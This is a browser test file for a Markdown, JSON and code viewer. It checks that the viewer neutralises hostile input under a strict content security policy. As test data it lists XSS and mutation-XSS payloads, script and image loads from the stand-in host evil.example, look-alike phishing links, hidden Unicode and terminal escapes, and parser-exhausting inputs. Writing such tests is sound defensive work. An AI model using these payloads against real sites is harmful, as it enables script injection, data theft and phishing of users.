// What the viewer makes of text, in a real browser and under a strict policy: hostile samples do nothing, load nothing and hide
// nothing; good ones are shown as what they are. Needs puppeteer-core, esbuild and a Chromium (env CHROMIUM names another one than
// /usr/bin/chromium); skips without.

import assert from "node:assert/strict";
import { existsSync } from "node:fs";
import { createServer } from "node:http";
import { after, before, beforeEach, describe, test } from "node:test";
import { fileURLToPath } from "node:url";

const ROOT = fileURLToPath(new URL("..", import.meta.url));
const CHROMIUM = process.env.CHROMIUM ?? "/usr/bin/chromium";
const POLICY = "default-src 'none'; script-src 'self'; style-src 'self'; img-src data:; require-trusted-types-for 'script'; trusted-types lit-html dompurify plica-viewer";

const puppeteer = await import("puppeteer-core").then((m) => m.default, () => undefined);
const esbuild = await import("esbuild").catch(() => undefined);
const missing = !puppeteer ? "puppeteer-core is not installed" : !esbuild ? "esbuild is not installed" : !existsSync(CHROMIUM) ? `there is no browser at ${CHROMIUM}` : undefined;
if (missing) console.log(`viewer-text: skipped, ${missing}`);

/** The page: an element with a shadow root, and what is tested as a global. */
const ENTRY = `
import { LitElement, html } from "lit";
import * as hidden from "./hidden.js";
import * as numbers from "./numbers.js";
import * as highlight from "./highlight.js";
import { markdown } from "./markdown.js";
import { jsonTree } from "./json.js";
import { textStyles } from "./styles.js";

globalThis.violations = [];
document.addEventListener("securitypolicyviolation", (e) => violations.push(e.violatedDirective + " " + e.blockedURI + " " + e.sample));

class Probe extends LitElement {
  static styles = textStyles;
  render() { return html\`<div class="md" id="place"></div>\`; }
}
customElements.define("text-probe", Probe);

const probe = document.querySelector("text-probe");
const place = () => probe.shadowRoot.getElementById("place");
const put = (node) => { place().replaceChildren(node); return place(); };

globalThis.text = {
  hidden, numbers, highlight, markdown, jsonTree, place, put,
  /** Markdown in the page; what is there afterwards, told in plain data. */
  show(source) {
    const start = performance.now();
    put(markdown(source));
    place().getBoundingClientRect();
    const time = performance.now() - start;
    const all = [...place().querySelectorAll("*")];
    return {
      time,
      text: place().textContent,
      html: place().innerHTML.length > 200000 ? "" : place().innerHTML,
      tags: [...new Set(all.map((e) => e.localName))].sort(),
      attributes: [...new Set(all.flatMap((e) => e.getAttributeNames()))].sort(),
      links: all.filter((e) => e.localName === "a").map((e) => ({ href: e.getAttribute("href"), text: e.textContent, rel: e.rel, target: e.target, referrer: e.referrerPolicy })),
      hosts: all.filter((e) => e.className === "host").map((e) => e.textContent),
      addresses: all.filter((e) => e.className === "address").map((e) => e.textContent),
      remote: all.filter((e) => e.className === "remote").map((e) => ({ src: e.dataset.src, text: e.textContent })),
      marks: all.filter((e) => e.className === "ctl").map((e) => e.textContent),
      plain: place().firstElementChild?.className === "plain",
    };
  },
};
globalThis.ready = probe.updateComplete.then(() => true);
`;

async function bundle() {
  const built = await esbuild.build({
    stdin: { contents: ENTRY, resolveDir: `${ROOT}www/src/text`, loader: "js" },
    bundle: true, format: "esm", write: false, minify: true, target: "es2022",
  });
  return built.outputFiles[0].text;
}

async function serve(script) {
  const page = '<!doctype html><html lang="en"><title>text</title><text-probe></text-probe><script type="module" src="/page.js"></script></html>';
  const files = {
    "/": ["text/html", page, POLICY],
    "/page.js": ["text/javascript", script, POLICY],
    "/ours": ["text/html", page, POLICY.replace(" dompurify", "")],
    "/theirs": ["text/html", page, POLICY.replace(" plica-viewer", "")],
    "/neither": ["text/html", page, POLICY.replace(" dompurify plica-viewer", "")],
    "/untyped": ["text/html", page, POLICY.replace(/; require.*/, "")],
  };
  const server = createServer((request, response) => {
    const [type, body, policy] = files[request.url] ?? ["text/plain", "no such file", POLICY];
    response.writeHead(files[request.url] ? 200 : 404, { "content-type": `${type}; charset=utf-8`, "content-security-policy": policy });
    response.end(body);
  });
  await new Promise((done) => server.listen(0, "127.0.0.1", done));
  return { url: `http://127.0.0.1:${server.address().port}/`, close: () => server.close() };
}

/** Markdown, and the text that must be seen; without one: the text itself. Nothing of it may run, load or hide. */
const HTML = [
  "<script>globalThis.ran=1</script>",
  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
  "<img src=x onerror=globalThis.ran=1>",
  "<img src='https://evil.example/a.png'>",
  '<svg onload="globalThis.ran=1"></svg>',
  "<svg><script>globalThis.ran=1</script></svg>",
  "<svg><animate onbegin=globalThis.ran=1 attributeName=x></svg>",
  '<iframe src="javascript:globalThis.ran=1"></iframe>',
  '<iframe srcdoc="&#60;script>parent.ran=1&#60;/script>"></iframe>',
  "<object data=https://evil.example></object>",
  "<embed src=https://evil.example>",
  "<video><source onerror=globalThis.ran=1></video>",
  "<audio src=https://evil.example/a.mp3 autoplay></audio>",
  "<details open ontoggle=globalThis.ran=1>",
  "<body onload=globalThis.ran=1>",
  "<input autofocus onfocus=globalThis.ran=1>",
  "<marquee onstart=globalThis.ran=1>",
  "<style>*{background:url(https://evil.example/s)}</style>",
  "<link rel=stylesheet href=https://evil.example/s.css>",
  "<link rel=prefetch href=https://evil.example/p>",
  "<base href=https://evil.example/>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<form action=https://evil.example><button>Send</button></form>",
  '<form id=x><input name=attributes><input name="nodeName"></form>',
  "<img name=getElementById><a id=cookie name=location>",
  "<template><script>globalThis.ran=1</script></template>",
  "<template shadowrootmode=open><slot></slot></template>",
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=globalThis.ran=1&gt;\">",
  "<math><mi//xlink:href=\"data:x,<script>globalThis.ran=1</script>\">",
  "<svg></p><style><a id=\"</style><img src=1 onerror=globalThis.ran=1>\">",
  "<noscript><p title=\"</noscript><img src=x onerror=globalThis.ran=1>\">",
  "<xmp><img src=x onerror=globalThis.ran=1></xmp>",
  "<plaintext>",
  "<textarea><script>globalThis.ran=1</script></textarea>",
  "<title><img src=x onerror=globalThis.ran=1></title>",
  "<select><option><style></select><img src=x onerror=globalThis.ran=1>",
  "<!-- hidden <img src=x onerror=globalThis.ran=1> -->",
  "<!--><script>globalThis.ran=1</script>-->",
  "<![CDATA[<img src=x onerror=globalThis.ran=1>]]>",
  "<?php echo 1 ?>",
  "<!DOCTYPE html>",
  "<p style='position:fixed;inset:0'>over all</p>",
  "<a href='javascript:globalThis.ran=1' class=host>evil</a>",
  "<span class=ctl>fake</span>",
  "text <b onclick=globalThis.ran=1>bold</b> text",
  "a <system-note>b</system-note> c",
];

/** Links that no reader may follow: text and address are seen. */
const DEAD = [
  ["[a](javascript:globalThis.ran=1)", "a javascript:globalThis.ran=1"],
  ["[a](JaVaScRiPt:globalThis.ran=1)", "a JaVaScRiPt:globalThis.ran=1"],
  ["[a](java&#115;cript:globalThis.ran=1)", "a javascript:globalThis.ran=1"],
  ["[a](javascript&colon;globalThis.ran=1)", "a javascript:globalThis.ran=1"],
  ["[a](<java\tscript:globalThis.ran=1>)", "a java\tscript:globalThis.ran=1"],
  ["[a](java&Tab;script:globalThis.ran=1)", "a java\tscript:globalThis.ran=1"],
  ["[a](&#1;javascript:globalThis.ran=1)", "a ␁javascript:globalThis.ran=1"],
  ["[a](vbscript:msgbox)", "a vbscript:msgbox"],
  ["[a](data:text/html,<script>globalThis.ran=1</script>)", "a data:text/html,<script>globalThis.ran=1</script>"],
  ["[a](data:text/html;base64,PHNjcmlwdD4=)", "a data:text/html;base64,PHNjcmlwdD4="],
  ["[a](blob:https://evil.example/1)", "a blob:https://evil.example/1"],
  ["[a](file:///etc/hosts)", "a file:///etc/hosts"],
  ["[a](//evil.example/x)", "a //evil.example/x"],
  ["[a](/settings)", "a /settings"],
  ["[a](#top)", "a #top"],
  ["[a](https:evil.example)", "a https:evil.example"],
  ["[a]()", "a no address"],
  ["[a][b]\n\n[b]: javascript:globalThis.ran=1", "a javascript:globalThis.ran=1"],
  ["<javascript:globalThis.ran=1>", "javascript:globalThis.ran=1"],
  ['[a](javascript:globalThis.ran=1 "title")', "a javascript:globalThis.ran=1"],
  ['[a](x"onmouseover="globalThis.ran=1)', 'a x"onmouseover="globalThis.ran=1'],
  ["[a](https://[evil)", "a https://[evil"],
];

/** Links that can be followed: the address, and the host that is said beside the text, if it must be. */
const LIVE = [
  ["[here](https://evil.example/x)", "https://evil.example/x", "evil.example"],
  ["[https://bank.example](https://evil.example/)", "https://evil.example/", "evil.example"],
  ["[bank.example](https://bank.example/login)", "https://bank.example/login", undefined],
  ["[https://bank.example/a](https://bank.example/b)", "https://bank.example/b", undefined],
  ["<https://bank.example/a>", "https://bank.example/a", undefined],
  ["https://bank.example/a?b=1&c=2", "https://bank.example/a?b=1&c=2", undefined],
  ["<https://bank.example@evil.example/>", "https://bank.example@evil.example/", "evil.example"],
  ["[https://bank.example](https://bank.example.evil.example)", "https://bank.example.evil.example/", "bank.example.evil.example"],
  ["[bank.example.evil.example](https://bank.example)", "https://bank.example/", "bank.example"],
  ["[https://bаnk.example](https://bаnk.example)", "https://xn--bnk-6cd.example/", "xn--bnk-6cd.example"],
  ["[bank.example](https://evil.example\\@bank.example)", "https://evil.example@bank.example/", undefined],
  ["[bank.example](<https://evil.example\\\\@bank.example>)", "https://evil.example/@bank.example", "evil.example"],
  ["[bank\u202e.example](https://evil.example)", "https://evil.example/", "evil.example"],
  ["[evil.example:80](https://evil.example:8080)", "https://evil.example:8080/", "evil.example:8080"],
  ["[write](mailto:a@b.example)", "mailto:a@b.example", "a@b.example"],
  ["a@b.example", "mailto:a@b.example", undefined],
  ["[a](https://b.example/?x=1&amp;y=2)", "https://b.example/?x=1&y=2", "b.example"],
  ["[ ](https://evil.example/blank)", "https://evil.example/blank", undefined],
];

/** What is hidden is named. */
const HIDDEN = [
  ["a\u202eb", "aU+202Eb"],
  ["a&#x202e;b", "aU+202Eb"],
  ["`a\u202eb`", "aU+202Eb"],
  ["**a\u200bb**", "aU+200Bb"],
  ["pay\u200dpal", "payU+200Dpal"],
  ["a\u2066b\u2069c", "aU+2066bU+2069c"],
  ["a\u{e0041}\u{e0042}b", "aU+E0041 U+E0042b"],
  ["a\u001b[31mred\u001b[0m", "a␛[31mred␛[0m"],
  ["a\u001b[1m\u001b[2m\u001b[3m\u001b[4mb", "a␛[1m ␛[2m … ×4b"],
  ["a\u001b]8;;https://evil.example\u0007b", "a␛]8;;https://evil.example␇b"],
  ["a\u0008\u0008b", "a␈ ␈b"],
  ["a\u0000b", "a␀b"],
  ["a\ufeffb", "aU+FEFFb"],
  ["a\u2028b", "aU+2028b"],
  ["a\ufe00\ufe01b", "aU+FE00 U+FE01b"],
];

/** What must not be touched. */
const HARMLESS = ["family 👨‍👩‍👧 and ❤️", "می‌خواهم", "שלום and مرحبا", "e\u0301 and ñ", "日本語", "1 < 2 && 3 > 2", "&copy is no entity, AT&T neither"];

/** Much of something: it must be shown in a moment. */
const HUGE = {
  brackets: "[".repeat(100_000),
  "brackets and an end": `${"[".repeat(99_000)}](b)`,
  stars: "*".repeat(100_000),
  "stars and letters": "*a **b ".repeat(7_000) + "b** a*".repeat(8_000),
  underscores: "a_b_".repeat(25_000),
  backticks: "`".repeat(1_000_000),
  quotes: `${">".repeat(10_000)} a`,
  "quotes and spaces": "> ".repeat(10_000),
  lists: "- ".repeat(10_000),
  "ordered lists": "1. ".repeat(10_000),
  "mixed nesting": "> - 1. ".repeat(10_000),
  "indented lists": Array.from({ length: 300 }, (_, i) => `${" ".repeat(2 * i)}- a`).join("\n"),
  cells: `|${"a|".repeat(50)}\n|${"-|".repeat(50)}\n${`|${"b|".repeat(50)}\n`.repeat(1_000)}`,
  "wide table": `|${"a|".repeat(20_000)}\n|${"-|".repeat(20_000)}\n`,
  images: "![".repeat(50_000),
  mail: `${"a.".repeat(50_000)}@`,
  exclamations: "!".repeat(99_000),
  addresses: "https://a.b/(".repeat(7_000),
  gaps: `a${" ".repeat(99_000)}b`,
  "lazy lines": `- a\n${"b\n".repeat(40_000)}`,
  tags: "<b>".repeat(33_000),
  entities: "&#".repeat(50_000),
  marks: "\u202e\u200b ".repeat(30_000),
  escapes: "\u001b[31m".repeat(200_000),
  "combining marks": `a${"\u0301".repeat(100_000)}`,
  fences: "```\na\n".repeat(10_000),
  "one word": "a".repeat(1_000_000),
};

describe("text of the viewer", { skip: missing }, () => {
  let browser; let page; let server;
  const complaints = [];

  before(async () => {
    server = await serve(await bundle());
    browser = await puppeteer.launch({ executablePath: CHROMIUM, args: ["--no-sandbox", "--disable-dev-shm-usage"] });
    page = await browser.newPage();
    page.on("console", (message) => { if (["error", "warn"].includes(message.type())) complaints.push(`console: ${message.text()}`); });
    page.on("pageerror", (error) => complaints.push(`error: ${error}`));
    page.on("dialog", (dialog) => { complaints.push(`dialog: ${dialog.message()}`); void dialog.dismiss(); });
    page.on("request", (sent) => { if (![server.url, `${server.url}page.js`, `${server.url}favicon.ico`].includes(sent.url())) complaints.push(`request: ${sent.url()}`); });
    page.on("framenavigated", (frame) => { if (frame.url() !== server.url) complaints.push(`navigation: ${frame.url()}`); });
    await page.goto(server.url);
    await page.evaluate(() => globalThis.ready);
    complaints.length = 0; // the browser asks for an icon, which the policy refuses
  });

  after(async () => {
    await browser?.close();
    server?.close();
  });

  beforeEach(() => { complaints.length = 0; });

  const show = (source) => page.evaluate((s) => globalThis.text.show(s), source);

  /** Nothing ran, nothing was asked for, nothing was refused: what is refused was tried. */
  async function calm(what) {
    await page.evaluate(() => new Promise((done) => setTimeout(done, 5)));
    const { ran, violations } = await page.evaluate(() => ({ ran: globalThis.ran, violations: globalThis.violations.splice(0) }));
    assert.equal(ran, undefined, `${what}: something ran`);
    assert.deepEqual([...complaints, ...violations], [], what);
  }

  const TAGS = ["a", "blockquote", "br", "button", "code", "del", "div", "em", "h3", "h4", "h5", "h6", "hr", "li", "ol", "p", "pre", "span", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul"];
  const ATTRIBUTES = ["align", "aria-label", "class", "data-copy", "data-level", "data-src", "dir", "href", "referrerpolicy", "rel", "role", "start", "tabindex", "target", "title", "type"];

  function tame(shown, what) {
    for (const tag of shown.tags) assert.ok(TAGS.includes(tag), `${what}: <${tag}>`);
    for (const name of shown.attributes) assert.ok(ATTRIBUTES.includes(name), `${what}: ${name}=`);
  }

  const squeezed = (text) => text.replace(/[^\S\t]+/g, " ").trim();

  test("HTML is text", async () => {
    for (const source of HTML) {
      const shown = await show(source);
      tame(shown, source);
      assert.equal(squeezed(shown.text), squeezed(source.replaceAll("&gt;", source.startsWith("<math><mtext") ? "&gt;" : ">")), source);
      assert.deepEqual(shown.tags.filter((tag) => tag !== "p"), [], source);
      await calm(source);
    }
  });

  test("HTML is text inside of Markdown", async () => {
    for (const html of HTML.filter((source) => !/[\n*_`|]/.test(source))) {
      for (const [before, after] of [["- ", ""], ["> ", ""], ["# ", ""], ["a **", "** b"]]) {
        const shown = await show(`${before}${html}${after}`);
        tame(shown, html);
        assert.ok(squeezed(shown.text).includes(html.slice(0, 8)), html);
      }
      const code = await show(`\`\`\`html\n${html}\n\`\`\``);
      tame(code, html);
      assert.ok(code.text.includes(html), html);
      await calm(html);
    }
  });

  test("links that go nowhere are text with their address", async () => {
    for (const [source, text] of DEAD) {
      const shown = await show(source);
      tame(shown, source);
      assert.deepEqual(shown.links, [], source);
      assert.equal(shown.text.trim(), text, source);
      await calm(source);
    }
  });

  test("links say where they go", async () => {
    for (const [source, href, host] of LIVE) {
      const shown = await show(source);
      tame(shown, source);
      assert.equal(shown.links.length, 1, source);
      const [link] = shown.links;
      assert.deepEqual({ href: link.href, rel: link.rel, target: link.target, referrer: link.referrer }, { href, rel: "noopener noreferrer", target: "_blank", referrer: "no-referrer" }, source);
      assert.deepEqual(shown.hosts, host === undefined ? [] : [host], source);
      await calm(source);
    }
  });

  test("a link without a text gets one", async () => {
    assert.equal((await show("[ ](https://evil.example/blank)")).links[0].text, "evil.example");
  });

  test("pictures are not loaded", async () => {
    const far = await show("![a cat](https://evil.example/cat.png?secret=1)");
    assert.deepEqual(far.remote, [{ src: "https://evil.example/cat.png?secret=1", text: "a cat evil.example" }]);
    const bare = await show("![](http://evil.example/a)");
    assert.deepEqual(bare.remote, [{ src: "http://evil.example/a", text: "Picture evil.example" }]);
    for (const source of ["![a](data:image/svg+xml;base64,PHN2Zz4=)", "![a](javascript:globalThis.ran=1)", "![a](/favicon.ico)", "![a](x.png)", "![<img src=x onerror=globalThis.ran=1>](x.png)"]) {
      const shown = await show(source);
      tame(shown, source);
      assert.equal(shown.remote.length, 1, source);
      assert.equal(shown.remote[0].src, undefined, source);
    }
    const inside = await show("[![a](https://one.example/p) text](https://two.example)");
    assert.deepEqual(inside.remote.map((one) => one.src), ["https://one.example/p"]);
    assert.deepEqual(inside.links.map((one) => one.text), [" text"]);
    assert.ok(!/<a [^>]*>(?:(?!<\/a>).)*remote/.test(inside.html), "a control inside a link");
    await calm("pictures");
  });

  test("what is hidden is named", async () => {
    for (const [source, text] of HIDDEN) {
      const shown = await show(source);
      tame(shown, source);
      assert.equal(shown.text.trim(), text, JSON.stringify(source));
    }
    for (const source of HARMLESS) {
      const shown = await show(source);
      assert.equal(shown.text.trim(), source);
      assert.deepEqual(shown.marks, []);
    }
    assert.match((await show("a\u{e0068}\u{e0069}")).html, /title="hidden tag characters: “hi”"/);
    await calm("hidden");
  });

  test("much of something is shown in a moment, all of it", async () => {
    for (const [name, source] of Object.entries(HUGE)) {
      const shown = await show(source);
      tame(shown, name);
      // Without bounds these take from ten seconds to minutes; the limit leaves room for slow machines.
      assert.ok(shown.time < 4_000, `${name}: ${Math.round(shown.time)} ms`);
      assert.ok(shown.marks.length <= 400, `${name}: ${shown.marks.length} marks`);
      if (process.env.TIMES) console.log(name, Math.round(shown.time), shown.plain ? "plain" : "");
      await calm(name);
    }
  });

  test("what is too much is shown as it is", async () => {
    for (const name of ["brackets", "quotes", "mixed nesting", "stars and letters", "gaps"]) {
      const shown = await show(HUGE[name]);
      assert.ok(shown.plain, name);
      assert.equal(shown.text, HUGE[name], name);
    }
  });

  test("text has directions of its own", async () => {
    const { html } = await show("# א\n\nא\n\n- ב\n\n> ג\n\n|ד|\n|-|\n|ה|");
    for (const tag of ["h3", "p", "li", "blockquote", "th", "td"]) assert.match(html, new RegExp(`<${tag}[^>]* dir="auto"`), tag);
  });

  test("Markdown is what it is", async () => {
    const of = async (source) => (await show(source)).html.replaceAll(' dir="auto"', "").replaceAll(/>\n+/g, ">");
    assert.equal(await of("# One\n\n## Two\n\n###### Six"), '<h3 data-level="1">One</h3><h4 data-level="2">Two</h4><h6 data-level="6">Six</h6>');
    assert.equal(await of("a **b** *c* ~~d~~ `e <f>`"), "<p>a <strong>b</strong> <em>c</em> <del>d</del> <code>e &lt;f&gt;</code></p>");
    assert.equal(await of("one\ntwo"), "<p>one<br>two</p>");
    assert.equal(await of("- a\n- b\n  1. c"), "<ul><li>a</li><li>b<ol><li>c</li></ol></li></ul>");
    assert.equal(await of("3. a\n4. b"), '<ol start="3"><li>a</li><li>b</li></ol>');
    assert.equal(await of("- [x] done\n- [ ] open"), '<ul><li class="task">☑ done</li><li class="task">☐ open</li></ul>');
    assert.equal(await of("> a\n\n---"), "<blockquote><p>a</p></blockquote><hr>");
    assert.equal(await of("|a|b|\n|:-:|-:|\n|1|`2`|"), '<div class="table" tabindex="0" role="region" aria-label="Table"><table><thead><tr><th align="center">a</th><th align="right">b</th></tr></thead><tbody><tr><td align="center">1</td><td align="right"><code>2</code></td></tr></tbody></table></div>');
    assert.equal(await of("<div>\n  *a*\n</div>"), '<p class="literal">&lt;div&gt;\n  *a*\n&lt;/div&gt;</p>');
    assert.equal(await of("a &lt;b&gt; &amp; &copy;"), "<p>a &lt;b&gt; &amp; ©</p>");
  });

  test("code has colours, a name and a button", async () => {
    const { html } = await show("```ts\nconst a: string = \"<b>&amp;\";\r\n```");
    assert.match(html, /^<div class="code"><div class="code-head"><span class="language">TypeScript<\/span><button class="copy" type="button" data-copy="">Copy<\/button><\/div><pre dir="ltr" tabindex="0" role="group" aria-label="TypeScript"><code>/);
    assert.match(html, /<span class="hljs-keyword">const<\/span> <span class="hljs-attr">a<\/span>: <span class="hljs-built_in">string<\/span> = <span class="hljs-string">"&lt;b&gt;&amp;amp;"<\/span>;/);
    const code = await page.evaluate(() => {
      globalThis.text.show("```js\na\u202eb\n```");
      const block = globalThis.text.place().querySelector(".code");
      return [block.querySelector("code").textContent, globalThis.text.highlight.codeOf(block)];
    });
    assert.deepEqual(code, ["aU+202Eb", "a\u202eb"]);
    for (const name of ["<img src=x onerror=globalThis.ran=1>", "__proto__", "constructor", "a\" onclick=\"globalThis.ran=1", "js onload=1"]) {
      const shown = await show(`\`\`\`${name}\n1\n\`\`\``);
      tame(shown, name);
    }
    await calm("code");
  });

  test("every language keeps every letter", async () => {
    const samples = ["a < b && c > \"d\" // 'e' &amp; </span>\n<span class=\"x\">", "{\"a\": [1.0, null]}", "# a\n- b: 1\n\t`c`", "\u001b[31m\u0000\u202e", "`".repeat(999) + "'\"".repeat(999)];
    const languages = ["bash", "c", "cpp", "csharp", "css", "diff", "dockerfile", "go", "toml", "java", "javascript", "json", "makefile", "markdown", "php", "plaintext", "python", "ruby", "rust", "shell", "sql", "typescript", "html", "xml", "yaml", undefined, "nothing", "__proto__"];
    const wrong = await page.evaluate((all, names) => {
      const { highlight, hidden } = globalThis.text;
      const wanted = (code) => { const box = document.createElement("p"); hidden.fill(box, code); return box.textContent.replace(/[^\w<>&"']/g, ""); };
      return names.flatMap((name) => all.filter((code) => highlight.highlighted(code, name ?? undefined).textContent.replace(/[^\w<>&"']/g, "") !== wanted(code)).map((code) => `${name}: ${code}`));
    }, samples, languages);
    assert.deepEqual(wrong, []);
  });

  test("long code has no colours and takes no time", async () => {
    const result = await page.evaluate(() => {
      const { highlighted } = globalThis.text.highlight;
      const time = (code, language) => { const start = performance.now(); highlighted(code, language); return performance.now() - start; };
      const has = (code) => highlighted(code, "javascript").querySelector("span") !== null;
      return {
        short: has("let a = 1;\n".repeat(100)), long: has("let a = 1;\n".repeat(4_000)),
        inner: [["dockerfile", "RUN ${${${${\n"], ["html", "<script>`${</script>\n"], ["console", "${${${${\n"], ["php", "?><script>`${</script><?php\n"], ["js", "html`<script>`${</script>${`\n"], ["markdown", "<script>`${</script>\n"]].map(([language, unit]) => [language, time(unit.repeat(29_000 / unit.length), language)]).filter(([, ms]) => ms > 3_000),
        times: ["java", "typescript", "ini", "csharp", "markdown", "json"].flatMap((language) => ["a", "a ", "_", "[", "\n", "a\n", "aaaaaaaaaa\n", "a a a a a\n"].map((unit) => [language, unit, time(unit.repeat(29_990 / unit.length), language)])).filter(([, , ms]) => ms > 1_500),
      };
    });
    assert.deepEqual(result, { short: true, long: false, inner: [], times: [] });
  });

  test("languages of files", async () => {
    const found = await page.evaluate(() => ["src/a.rs", "C:\\a\\B.PY", "Dockerfile", "x/Makefile", "a.b.tsx", "Cargo.toml", "none", ".ts", "a.constructor", ""].map((path) => globalThis.text.highlight.languageOf(path) ?? null));
    assert.deepEqual(found, ["rust", "python", "dockerfile", "makefile", "typescript", "ini", null, "typescript", null, null]);
  });

  /** The tree in the page, told as text. */
  const tree = (text, options) => page.evaluate((t, o) => globalThis.text.put(globalThis.text.jsonTree(t, o)).textContent, text, options ?? {});

  test("JSON is a tree", async () => {
    const text = '{"big": 12345678901234567890, "one": 1.0, "e": 1E+2, "t": true, "n": null, "s": "a\\u202eb \\"q\\"", "a": "1", "a": "2", "empty": {}, "list": [1, [2]]}';
    const shown = await tree(text);
    for (const piece of ['"big": 12345678901234567890', '"one": 1.0', '"e": 1E+2', '"t": true', '"n": null', '"s": "aU+202Eb \\"q\\""', '"empty": {}']) assert.ok(shown.includes(piece), piece);
    assert.equal(shown.split("this key stands more than once").length, 3);
    assert.ok(shown.includes("10 keys") && shown.includes("2 items"));
    const steps = await page.evaluate(async () => {
      const inner = globalThis.text.place().querySelectorAll("details")[1];
      const closed = inner.querySelector("ul");
      inner.querySelector("summary").click();
      await new Promise((done) => setTimeout(done, 50));
      return [closed, [...inner.querySelectorAll(":scope > ul > li")].length];
    });
    assert.deepEqual(steps, [null, 2]);
    await calm("tree");
  });

  test("JSON opens from the keyboard", async () => {
    await tree('{"a": {"b": 1}}', { open: 0 });
    await page.evaluate(() => globalThis.text.place().querySelector("summary").focus());
    await page.keyboard.press("Enter");
    await page.evaluate(() => new Promise((done) => setTimeout(done, 50)));
    assert.equal(await page.evaluate(() => globalThis.text.place().querySelectorAll("details > ul > li").length), 1);
  });

  test("long lists come in groups", async () => {
    const groups = await page.evaluate(async () => {
      const { put, jsonTree, place } = globalThis.text;
      const open = async (details) => { details.open = true; await new Promise((done) => setTimeout(done, 50)); return details.querySelectorAll(":scope > ul > li"); };
      put(jsonTree(JSON.stringify(Array.from({ length: 25_050 }, (_, i) => i))));
      const outer = place().querySelectorAll(":scope > .json > ul > li > details > ul > li > details");
      const names = [...outer].map((one) => one.textContent);
      const inner = await open(outer[2]);
      const last = [...inner].at(-1).querySelector("details");
      const items = await open(last);
      return { names, inner: inner.length, last: last.querySelector("summary").textContent, items: items.length, value: items[0].textContent };
    });
    assert.deepEqual(groups, { names: ["1 – 10\u202f000", "10\u202f001 – 20\u202f000", "20\u202f001 – 25\u202f050"], inner: 51, last: "25\u202f001 – 25\u202f050", items: 50, value: "25000" });
  });

  test("long strings are cut", async () => {
    const shown = await tree(JSON.stringify({ a: "x".repeat(2_000) }));
    assert.ok(shown.includes("Show all 2\u202f002 characters") && !shown.includes("x".repeat(600)));
    await page.evaluate(() => globalThis.text.place().querySelector(".more").click());
    assert.ok(await page.evaluate(() => globalThis.text.place().textContent.includes("x".repeat(2_000))));
  });

  test("what is no JSON is text", async () => {
    for (const text of ["", "{a: 1}", "[1,", "<b>no</b>", "{\"a\":1}}"]) assert.equal(await tree(text), text);
    assert.ok((await tree('"word"')).includes('"word"'));
  });

  test("deep and long JSON opens at once", async () => {
    const times = await page.evaluate(async () => {
      const { put, jsonTree, place } = globalThis.text;
      const samples = {
        deep: `${"[".repeat(10_000)}1${"]".repeat(10_000)}`,
        objects: `${'{"a":'.repeat(10_000)}1${"}".repeat(10_000)}`,
        long: JSON.stringify(Array.from({ length: 100_000 }, (_, i) => ({ id: i, name: `name ${i}`, list: [i] }))),
        word: JSON.stringify({ a: "x".repeat(5_000_000) }),
        numbers: `[${"1,".repeat(2_500_000)}1]`,
        keys: `{${Array.from({ length: 200_000 }, (_, i) => `"key ${i}": ${i}`).join(",")}}`,
      };
      const slow = [];
      for (const [name, text] of Object.entries(samples)) {
        const start = performance.now();
        put(jsonTree(text, { open: 200 }));
        place().getBoundingClientRect();
        const time = performance.now() - start;
        if (time > 6_000) slow.push(`${name}: ${time}`);
      }
      put(jsonTree(samples.deep, { open: 200 }));
      return { slow, note: place().textContent.includes("deeper than 100 levels: shown as text") };
    });
    assert.deepEqual(times, { slow: [], note: true });
    await calm("json");
  });

  test("numbers for people", async () => {
    const found = await page.evaluate(() => {
      const { count, counted, bytes } = globalThis.text.numbers;
      return [count(1234567), counted(1, "message"), counted(2, "reply", "replies"), bytes(1), bytes(999), bytes(1_000), bytes(9_960), bytes(999_600), bytes(5_000_000_000)];
    });
    assert.deepEqual(found, ["1\u202f234\u202f567", "1 message", "2 replies", "1 byte", "999 bytes", "1.0 kB", "10 kB", "1.0 MB", "5.0 GB"]);
  });

  test("text in titles is plain", async () => {
    assert.equal(await page.evaluate(() => globalThis.text.hidden.plain("a\u202eb\r\n\u001b[31m")), "a[U+202E]b\n[␛[31m]");
  });

  test("pages allow one policy, the other, neither, or know of none", async () => {
    const other = await browser.newPage();
    const html = {};
    for (const path of ["ours", "theirs", "neither", "untyped"]) {
      await other.goto(`${server.url}${path}`);
      html[path] = await other.evaluate(() => globalThis.ready.then(() => globalThis.text.show("a **b**").html));
    }
    await other.close();
    const parsed = '<p dir="auto">a <strong>b</strong></p>\n';
    assert.deepEqual(html, { ours: parsed, theirs: parsed, neither: '<pre class="plain" dir="auto">a **b**</pre>', untyped: parsed });
  });

  test("the policy of the page is needed by nothing but the sanitiser", async () => {
    assert.equal(await page.evaluate(() => { try { document.createElement("div").innerHTML = "<b>"; return "taken"; } catch { return "refused"; } }), "refused");
    await page.evaluate(() => globalThis.violations.splice(0));
  });
});
